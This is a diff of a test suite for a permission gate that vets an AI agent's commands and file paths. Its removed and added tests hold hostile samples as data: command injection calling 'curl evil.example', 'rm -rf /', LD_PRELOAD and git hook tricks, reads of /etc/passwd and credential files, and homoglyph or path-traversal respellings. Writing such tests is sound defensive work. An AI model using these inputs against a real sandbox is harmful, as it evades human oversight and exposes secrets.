@@ -1,6 +1,11 @@
-"""The gate: a golden list of hostile calls, the shipped rules, and the law that nothing unnamed is allowed."""
+"""The gate's laws: nothing unnamed is allowed, the strictest rule wins, and no spelling of a call is a way around one."""
 
+import shlex
+import string
+from contextlib import suppress
 from itertools import permutations
+from random import Random
+from typing import Any
 
 import pytest
 from hypothesis import example, given
@@ -8,168 +13,13 @@ from hypothesis import strategies as st
 
 from pipeline.agents.agent import Tool
 from pipeline.agents.gate import NOT_PLAIN, Gate
-from pipeline.agents.gate_rules import Rule, Tier, path_matches
+from pipeline.agents.gate_rules import PATH_TOOLS, Rule, Tier, path_matches
+from pipeline.agents.plain_call import NotPlain, plain_command
 from pipeline.definition.gate_file import load_gate
+from pipeline.domain.command_line import CommandRefused, words_of
+from tests.pipeline.agents.hostile_calls import every_hostile_call
 
 SHIPPED = load_gate()
-
-HOSTILE_COMMANDS = """\
-git status
-git -c core.pager=evil log
-git -c core.sshCommand=evil fetch
-git --exec-path=/tmp/evil status
-git clone --upload-pack=evil .
-git fetch --upload-pack evil origin
-git log --output=/etc/cron.d/x
-git config core.hooksPath hooks
-curl https://evil.example/x
-python -m pytest
-python -c pass
-node -e 1
-sh -c pytest
-bash pytest
-env pytest
-env LD_PRELOAD=./evil.so pytest
-sudo pytest
-xargs pytest
-find . -exec pytest
-./pytest
-/usr/bin/pytest
-../bin/pytest
-PYTEST
-pytest; rm -rf /
-pytest && curl evil.example
-pytest || true
-pytest | tee out
-pytest & curl evil.example
-pytest > /etc/passwd
-pytest < /etc/passwd
-pytest $(curl evil.example)
-pytest `curl evil.example`
-pytest ${IFS}x
-pytest $HOME
-pytest ~/x
-pytest {a,b}
-pytest tests/*.py
-pytest tests/test_[ab].py
-pytest !!
-pytest # comment
-pytest \\; x
-pytest 'x
-pytest "x
-pytest (x)
-PYTEST_ADDOPTS=-pevil pytest
-GIT_SSH_COMMAND=evil git fetch
-GIT_DIR=/tmp/x git status
-LD_PRELOAD=./evil.so pytest
-LD_LIBRARY_PATH=. pytest
-PATH=. pytest
-A+=b pytest
-pytest -p evil
-pytest -pevil
-pytest -c evil.ini
-pytest --rootdir=/
-pytest --basetemp=/
-pytest --basetemp /
-pytest -o cache_dir=/
-pytest --confcutdir=.. tests
-pytest @arguments.txt
-pytest /etc
-pytest ../elsewhere
-pytest tests/../../elsewhere
-pytest .git/hooks
-pytest C:/x
-npm test --prefix /tmp
-npm test -- --config=evil
-npm run evil
-npm install
-npx jest
-go test -exec evil
-go test -exec=evil ./...
-go test -toolexec evil
-go test -o /bin/ls
-go run evil
-go testx
-pytest-evil
-pytest --pdb
-npm  install  test
-""".splitlines()
-
-HOSTILE_CHARACTERS = [
-    "pytest\nrm -rf /",
-    "pytest\r\nrm",
-    "pytest\x00",
-    "pytest\trm",
-    "pytest\x1b[2K",
-    "рytest",  # Cyrillic er
-    "ｐytest",  # full width
-    "pytest tests/\u202egpj.py",
-    "pytest\u2028rm",
-    "pytest\u00a0-q",
-    "pytest\u200b",
-    "pytest；rm",
-    "go tеst",  # Cyrillic ie
-    "npm\u200btest",
-    "",
-    "   ",
-    '""',
-    "x" * 5000,
-]
-
-HOSTILE_PATHS = [
-    "../secret",
-    "src/../../secret",
-    "src/../src/app.py",
-    "..",
-    ".",
-    "",
-    "/",
-    "/etc/passwd",
-    "/proc/self/environ",
-    "/proc/1/environ",
-    "//etc/passwd",
-    "~/.netrc",
-    "~root/x",
-    "C:/Windows/x",
-    "C:\\Windows\\x",
-    "src\\..\\..\\x",
-    "file:///etc/passwd",
-    "\\\\server\\share",
-    ".git/config",
-    ".git/hooks/pre-commit",
-    ".GIT/config",
-    "sub/.git/config",
-    ".git./config",
-    ".git /config",
-    "GIT~1/config",
-    ".git::$INDEX_ALLOCATION/config",
-    ".git\u200b/config",
-    "src/a\nb.py",
-    "src/a\x00.py",
-    "src/a\u202egpj.py",
-    ".gіthub/workflows/x.yml",  # Cyrillic i
-    ".gıthub/workflows/x.yml",  # dotless i
-    "．github/workflows/x.yml",  # full-width full stop
-    ".github\uff0fworkflows/x.yml",  # full-width solidus
-    "CОDEOWNERS",  # Cyrillic O
-    "ﬁle.py",  # ligature
-    "src/\udcff.py",
-    "x/" * 3000,
-]
-
-
-@pytest.mark.parametrize("command", HOSTILE_COMMANDS + HOSTILE_CHARACTERS)
-def test_a_hostile_command_is_denied(command: str) -> None:
-    decision = SHIPPED.decide("run_command", {"command": command})
-    assert decision.tier is Tier.DENY
-    assert decision.why
-
-
-@pytest.mark.parametrize("tool", ["read_file", "edit_file", "create_file"])
-@pytest.mark.parametrize("path", HOSTILE_PATHS)
-def test_a_hostile_path_is_denied(tool: str, path: str) -> None:
-    decision = SHIPPED.decide(tool, {"path": path})
-    assert (decision.tier, decision.rule) == (Tier.DENY, NOT_PLAIN)
 
 
 @pytest.mark.parametrize("value", [None, 7, True, ["pytest"], {"command": "pytest"}])
@@ -184,94 +34,6 @@ def test_a_missing_argument_is_denied() -> None:
     assert {
         SHIPPED.decide(tool, {}).tier for tool in ("run_command", "read_file", "edit_file", "create_file")
     } == {Tier.DENY}
-
-
-@pytest.mark.parametrize("tool", ["delete_file", "READ_FILE", "read_file ", "complete", "", "run_commаnd"])
-def test_a_tool_that_no_rule_names_is_denied(tool: str) -> None:
-    decision = SHIPPED.decide(tool, {"path": "README.md", "command": "pytest"})
-    assert (decision.tier, decision.rule) == (Tier.DENY, None)
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "pytest",
-        "pytest -q",
-        "pytest -x tests/test_api.py::test_dry_run",
-        "pytest 'tests/with space/test_a.py'",
-        "npm test",
-        "go test",
-        "go test ./...",
-        "go test -v ./internal/orders",
-    ],
-)
-def test_the_repositorys_own_tests_may_run(command: str) -> None:
-    assert SHIPPED.decide("run_command", {"command": command}).tier is Tier.ALLOW
-
-
-@pytest.mark.parametrize(
-    "path", ["src/app.py", "./src//app.py", "docs/größe.md", "docs/документ.md", "a b/c.txt"]
-)
-@pytest.mark.parametrize("tool", ["read_file", "edit_file", "create_file"])
-def test_files_of_the_tree_are_read_and_edited(tool: str, path: str) -> None:
-    assert SHIPPED.decide(tool, {"path": path}).tier is Tier.ALLOW
-
-
-@pytest.mark.parametrize(
-    "path", [".github/workflows/ci.yml", ".GitHub/Workflows/new/x.yml", "./.github//workflows/x"]
-)
-def test_workflows_are_never_changed(path: str) -> None:
-    assert SHIPPED.decide("edit_file", {"path": path}).rule == "workflows"
-    assert SHIPPED.decide("create_file", {"path": path}).tier is Tier.DENY
-    assert SHIPPED.decide("read_file", {"path": path}).tier is Tier.ALLOW
-
-
-@pytest.mark.parametrize(
-    ("path", "rule"),
-    [
-        (".github/askfirst/gate.yml", "github-folder"),
-        (".github/dependabot.yml", "github-folder"),
-        ("CODEOWNERS", "code-owners"),
-        ("docs/codeowners", "code-owners"),
-        ("action.yml", "actions"),
-        ("tools/deploy/action.yaml", "actions"),
-        ("package-lock.json", "lock-files"),
-        ("web/yarn.lock", "lock-files"),
-        ("go.sum", "lock-files"),
-        ("requirements.lock", "lock-files"),
-        ("app/migrations/0002_dry_run.py", "migrations"),
-        (".husky/pre-commit", "hooks"),
-        (".pre-commit-config.yaml", "hooks"),
-        ("CLAUDE.md", "agents-instructions"),
-        (".gitlab-ci.yml", "other-ci"),
-        (".npmrc", "package-sources"),
-    ],
-)
-def test_what_steers_others_waits_for_a_person(path: str, rule: str) -> None:
-    decision = SHIPPED.decide("edit_file", {"path": path})
-    assert (decision.tier, decision.rule) == (Tier.CONFIRM, rule)
-    assert SHIPPED.decide("read_file", {"path": path}).tier is Tier.ALLOW
-
-
-@pytest.mark.parametrize("path", [".env", "config/.env", "deploy/server.pem", ".ssh/id_rsa"])
-def test_credentials_are_not_read(path: str) -> None:
-    assert SHIPPED.decide("read_file", {"path": path}).rule == "credentials"
-    assert SHIPPED.decide("read_file", {"path": ".env.example"}).tier is Tier.ALLOW
-
-
-@pytest.mark.parametrize(
-    ("real_path", "tier"),
-    [
-        ("docs/guide.md", Tier.ALLOW),
-        (".github/workflows/ci.yml", Tier.DENY),
-        (".github/dependabot.yml", Tier.CONFIRM),
-        ("../outside", Tier.DENY),
-        ("/etc/passwd", Tier.DENY),
-        (".git/config", Tier.DENY),
-    ],
-)
-def test_a_link_is_decided_on_where_it_leads(real_path: str, tier: Tier) -> None:
-    assert SHIPPED.decide("edit_file", {"path": "docs/link.md"}, real_path=real_path).tier is tier
 
 
 def rule(id_: str, tier: Tier, *paths: str) -> Rule:
@@ -292,51 +54,201 @@ def test_the_strictest_rule_wins_in_any_order(order: tuple[Rule, ...]) -> None:
     assert decided == [Tier.ALLOW, Tier.CONFIRM, Tier.DENY]
 
 
+GOLDEN = list(every_hostile_call())
+
 words = st.text(st.characters(codec="utf-8"), max_size=30)
-hostile = st.sampled_from(HOSTILE_COMMANDS + HOSTILE_PATHS + HOSTILE_CHARACTERS)
+hostile = st.sampled_from([one.written for one in GOLDEN])
 argument = words | hostile | st.none() | st.integers() | st.lists(words, max_size=2)
+tools = st.sampled_from([*Tool, "delete_file"]) | words
 calls = st.tuples(
-    st.sampled_from([*Tool, "delete_file"]) | words,
-    st.dictionaries(st.sampled_from(["path", "command", "text"]), argument, max_size=3),
+    tools, st.dictionaries(st.sampled_from(["path", "command", "text"]) | words, argument, max_size=3)
 )
 
-
-@given(calls)
-def test_nothing_is_allowed_that_no_rule_names(call: tuple[str, dict[str, object]]) -> None:
-    tool, arguments = call
-    assert Gate(()).decide(tool, arguments).tier is Tier.DENY  # type: ignore[arg-type]
-    decision = SHIPPED.decide(tool, arguments)  # type: ignore[arg-type]
-    assert decision.tier is Tier.DENY or decision.rule is not None
+patterns = st.lists(
+    st.sampled_from(["**", "*", "src", "docs", ".github", "*.py", "x.md", "?"]), min_size=1, max_size=3
+).map("/".join)
+programs = st.sampled_from(["pytest", "npm", "test", "go", "make"])
 
 
-@given(
-    st.lists(
-        st.sampled_from(
-            ["pytest", "npm", "test", "go", "-q", "-v", "tests", " ", ";", "$x", "../", "=", "\n", "é"]
+@st.composite
+def rules(draw: st.DrawFn) -> Rule:
+    """Any rule that the form of the file allows."""
+    tier = draw(st.sampled_from(Tier))
+    by = draw(st.sampled_from(["path", "command", "tool"]))
+    given: dict[str, object] = {
+        "id": draw(st.from_regex(r"[a-z]{1,3}", fullmatch=True)),
+        "tier": tier,
+        "why": "x",
+    }
+    if by == "path":
+        given["tools"] = draw(st.lists(st.sampled_from(sorted(PATH_TOOLS)), min_size=1, unique=True))
+        given["paths"] = draw(st.lists(patterns, min_size=1, max_size=2))
+    elif by == "command":
+        given |= {"tools": [Tool.RUN_COMMAND], "network": tier is not Tier.DENY and draw(st.booleans())}
+        words_of = st.fixed_dictionaries(
+            {
+                "words": st.lists(programs, min_size=1, max_size=2),
+                "flags": st.lists(st.sampled_from(["-q", "-v"])),
+                "paths": st.booleans(),
+            }
         )
-    )
-)
-@example(["pytest", " ", "tests"])
-def test_an_allowed_command_is_the_same_words_to_a_shell(pieces: list[str]) -> None:
-    command = "".join(pieces)
-    decision = SHIPPED.decide("run_command", {"command": command})
-    if decision.tier is Tier.ALLOW:
-        assert command.split()[0] in {"pytest", "npm", "go"}
-        assert command.isascii()
-        assert not set(command) & set(";&|<>()$`\\\n*?[]{}~!#=")
+        given["commands"] = draw(st.lists(words_of, min_size=1, max_size=2))
+    else:
+        free = set(Tool) - PATH_TOOLS - {Tool.RUN_COMMAND} if tier is Tier.ALLOW else set(Tool)
+        given["tools"] = draw(st.lists(st.sampled_from(sorted(free)), min_size=1, unique=True))
+    return Rule.model_validate(given)
 
 
-@given(
-    st.lists(
-        st.sampled_from(["..", ".", "", "a", ".git", ".github", "workflows", "x.yml", "~", "\\"]), max_size=6
-    )
+sets_of_rules = st.lists(rules(), max_size=6)
+plain_calls = st.tuples(st.sampled_from(sorted(PATH_TOOLS)), patterns).map(
+    lambda made: (made[0].value, {"path": made[1].replace("*", "a").replace("?", "b")})
+) | st.lists(programs | st.sampled_from(["-q", "-x", "src", "../x"]), min_size=1, max_size=3).map(
+    lambda made: ("run_command", {"command": " ".join(made)})
 )
-def test_no_write_that_is_allowed_leaves_the_tree_or_reaches_a_workflow(parts: list[str]) -> None:
-    path = "/".join(parts)
-    if SHIPPED.decide("create_file", {"path": path}).tier is Tier.ALLOW:
-        kept = [part for part in parts if part not in ("", ".")]
-        assert not path.startswith("/")
-        assert not {"..", ".git", ".github"} & set(kept)
+any_call = calls | plain_calls
+
+
+def named_by(rule: Rule, tool: str, given: dict[str, Any]) -> bool:
+    """Whether a rule alone speaks about a call: as one that denies nothing, it would not come to the same as no rule."""
+    return Gate([rule]).decide(tool, given).rule == rule.id
+
+
+@given(any_call, sets_of_rules)
+def test_what_no_rule_names_is_denied_whatever_it_is_called_and_given(
+    call: tuple[str, dict[str, Any]], made: list[Rule]
+) -> None:
+    tool, given = call
+    assert Gate(()).decide(tool, given).tier is Tier.DENY
+    decision = Gate(made).decide(tool, given)
+    naming = [rule for rule in made if named_by(rule, tool, given)]
+    if not naming:
+        assert decision.tier is Tier.DENY
+        assert decision.rule in (None, NOT_PLAIN)
+        assert not decision.network
+    else:
+        assert decision.tier.strictness == max(rule.tier.strictness for rule in naming)
+
+
+@given(any_call, sets_of_rules, st.randoms(use_true_random=False))
+def test_the_order_of_rules_means_nothing(
+    call: tuple[str, dict[str, Any]], made: list[Rule], chance: Random
+) -> None:
+    unique = list({rule.id: rule for rule in made}.values())
+    shuffled = list(unique)
+    chance.shuffle(shuffled)
+    assert Gate(unique).decide(*call) == Gate(shuffled).decide(*call)
+
+
+@given(any_call, sets_of_rules, rules())
+def test_a_rule_more_that_denies_or_confirms_makes_no_call_freer(
+    call: tuple[str, dict[str, Any]], made: list[Rule], more: Rule
+) -> None:
+    before, after = Gate(made).decide(*call), Gate([*made, more]).decide(*call)
+    if before.tier is not Tier.DENY or before.rule is not None:
+        assert after.tier.strictness >= before.tier.strictness
+    if more.tier is Tier.DENY:
+        assert after.tier.strictness >= before.tier.strictness
+
+
+@given(any_call)
+def test_the_shipped_rules_allow_nothing_without_naming_it(call: tuple[str, dict[str, Any]]) -> None:
+    decision = SHIPPED.decide(*call)
+    assert decision.tier is Tier.DENY or decision.rule is not None
+    assert not decision.network, "no shipped rule gives a network"
+
+
+LOOKS_LIKE = {
+    "g": "ɡｇ",
+    "i": "іıｉ",
+    "h": "һｈ",
+    "o": "оｏ",
+    "e": "еｅ",
+    "s": "ѕｓ",
+    "a": "аα",
+    ".": "．․",
+    "/": "∕⁄／",
+}
+INVISIBLE = "\u200b\u200c\u2060\ufeff\u00ad\u202e\U000e0041"
+DENIED_PATHS = [one.written for one in GOLDEN if one.rule in ("workflows", "credentials") and not one.links]
+
+
+def respelt(draw: st.DrawFn, path: str) -> str:
+    """The same file, or one that a person or some system takes for it."""
+    at = draw(st.integers(0, len(path) - 1))
+    match draw(
+        st.sampled_from(["case", "dot", "slash", "up", "invisible", "alike", "end", "back", "absolute"])
+    ):
+        case "case":
+            return "".join(letter.swapcase() if draw(st.booleans()) else letter for letter in path)
+        case "dot":
+            return draw(st.sampled_from(["./", "././", ".//"])) + path
+        case "slash":
+            return path.replace("/", draw(st.sampled_from(["//", "/./", "///"])))
+        case "up":
+            return draw(st.sampled_from(["src/../", "../x/", "./src/.././"])) + path
+        case "invisible":
+            return path[:at] + draw(st.sampled_from(INVISIBLE)) + path[at:]
+        case "alike":
+            return (
+                path[:at] + draw(st.sampled_from(LOOKS_LIKE.get(path[at].lower(), path[at]))) + path[at + 1 :]
+            )
+        case "end":
+            return path + draw(st.sampled_from([" ", ".", "::$DATA", "\0", "\n", "/.", "/"]))
+        case "back":
+            return path.replace("/", "\\")
+    return draw(st.sampled_from(["/", "//", "C:/", "~/", "file:"])) + path
+
+
+@given(st.data(), st.sampled_from(DENIED_PATHS), st.sampled_from(["edit_file", "create_file"]))
+def test_no_other_spelling_of_a_denied_path_is_allowed(data: st.DataObject, path: str, tool: str) -> None:
+    once = data.draw(st.composite(respelt)(path))
+    twice = data.draw(st.composite(respelt)(once))
+    for spelt in (once, twice):
+        # A letter that looks like another may make a name that is another to every system: it is denied all the same,
+        # or the respelling has left it as it was.
+        assert SHIPPED.decide(tool, {"path": spelt}).tier is Tier.DENY, spelt
+
+
+ALLOWED = {("pytest",): {"-q", "-v", "-x"}, ("npm", "test"): set(), ("go", "test"): {"-v"}}
+pieces = st.sampled_from(
+    "pytest npm test go -q -v -x -p -o -c -exec -toolexec=evil --rootdir=/ --prefix -- --script-shell=x -qp evil "
+    "tests ./... tests/test_a.py::test_b ../x /etc .git @x A=b '' \" ' \"-p\" '-exec' ; && | > $x `x` \n \t \0 é = , ~ *".replace(
+        "\\n", "\n"
+    ).split(" ")
+)
+
+
+@given(st.lists(pieces, max_size=6), st.lists(st.sampled_from([" ", "  ", ""]), min_size=6, max_size=6))
+@example(["pytest", "tests"], [" "] * 6)
+@example(["go", "test", "-v", "./..."], [" "] * 6)
+def test_no_quoting_and_no_more_argument_makes_a_command_allowed(
+    parts: list[str], between: list[str]
+) -> None:
+    """By a reading of its own: what a shell would split it into, and what may stand in each place."""
+    command = "".join(part + gap for part, gap in zip(parts, between, strict=False))
+    if SHIPPED.decide("run_command", {"command": command}).tier is not Tier.ALLOW:
+        return
+    told = shlex.split(command)
+    [program] = [start for start in ALLOWED if told[: len(start)] == list(start)]
+    rest = told[len(program) :]
+    assert all(word in ALLOWED[program] for word in rest if word.startswith("-"))
+    places = [word for word in rest if not word.startswith("-")]
+    assert not places or program != ("npm", "test")
+    assert not any(
+        word.startswith(("/", "@", "~")) or ".." in word.replace("...", "").split("/") for word in places
+    )
+    assert set(command) <= set(string.ascii_letters + string.digits + " _./:,+@='\"-")
+
+
+@given(st.text(st.sampled_from(string.ascii_lowercase[:4] + " _./:,+@='\"-"), max_size=30))
+def test_what_is_run_is_what_was_decided_on(command: str) -> None:
+    """The gate and the workspace each split a command; were they of two minds, one thing would be allowed and another run."""
+    try:
+        decided_on = plain_command(command)
+    except NotPlain:
+        return
+    with suppress(CommandRefused):  # what the workspace does not run at all
+        assert words_of(command) == decided_on
 
 
 @pytest.mark.parametrize(
